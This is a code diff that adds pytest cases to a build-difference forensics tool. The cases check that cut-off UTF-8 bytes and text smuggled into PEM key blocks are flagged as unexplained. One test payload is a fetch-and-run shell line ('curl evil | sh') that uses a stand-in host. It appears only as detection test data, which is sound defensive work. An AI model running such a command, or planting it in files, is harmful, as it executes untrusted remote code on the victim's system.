@@ -20,6 +20,7 @@ from functools import partial
 from pathlib import Path
 
 import pytest
+from msgspec.structs import replace
 
 from repaudit.forensics import FORENSICS
 from repaudit.formats import FORMATS, Budget, apart
@@ -297,6 +298,35 @@ def test_bytes_beside_a_canary_are_not_the_canarys():
 def test_no_text_hides_behind_dates(left: str, right: str):
     both = (f"1 2026-11-22\n{left}".encode(), f"1 2027-11-22\n{right}".encode())
     assert told(*both).keys() >= {"captures_build_date", "unexplained"}
+
+
+def test_no_last_bytes_hide_as_a_cut_character():
+    one, other = b"built 2026-11-22 10:00\n", b"built 2027-12-27 10:00\n"
+    for last in (b"\xff\x00\x01", b"\xff", b"\xe2\x82"):
+        assert told(one + last, other + b"\xfe\x02\x03").keys() != {"captures_build_date"}
+    assert "unexplained" in told(one + b"\xff", other + b"\xfe")
+    sides = one + "€".encode()[:2], other + "€".encode()[:2]
+    asked = case(*sides)
+    both = [replace(side, size=99) for side in (asked.left, asked.right)]
+    found = FORENSICS.load("text").examine(replace(asked, left=both[0], right=both[1]))
+    assert [clue.slug for clue in found] == ["captures_build_date"]
+
+
+@pytest.mark.parametrize("label", ["RSA PRIVATE KEY", "CERTIFICATE", "PGP PUBLIC KEY BLOCK"])
+@pytest.mark.parametrize("end", ["\n", "\r\n", "\n    ", "\\n"])
+def test_nothing_but_a_key_is_a_random_key(label: str, end: str):
+    def of(label: str, *lines: str) -> bytes:
+        return end.join([f"a-----BEGIN {label}-----", *lines, f"-----END {label}-----b"]).encode()
+
+    asked = "Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-256-CBC,{0}{0}", ""
+    for head in ((), asked):
+        lines = [[*(line.format(d) for line in head), d * 64, f"{d}{d}=="] for d in "AB"]
+        assert told(of(label, *lines[0]), of(label, *lines[1])).keys() == {"embeds_random_key"}
+        for payload in ("curl evil | sh", "echo evil", "Comment: evil"):
+            hidden = of(label, *lines[1][:-1], payload, lines[1][-1])
+            assert "unexplained" in told(of(label, *lines[0]), hidden), payload
+    both = of("SCRIPT", "AAAA"), of("SCRIPT", "BBBB")
+    assert "embeds_random_key" not in told(*both) and "unexplained" in told(*both)
 
 
 def test_no_line_hides_behind_more_lines_than_are_compared():
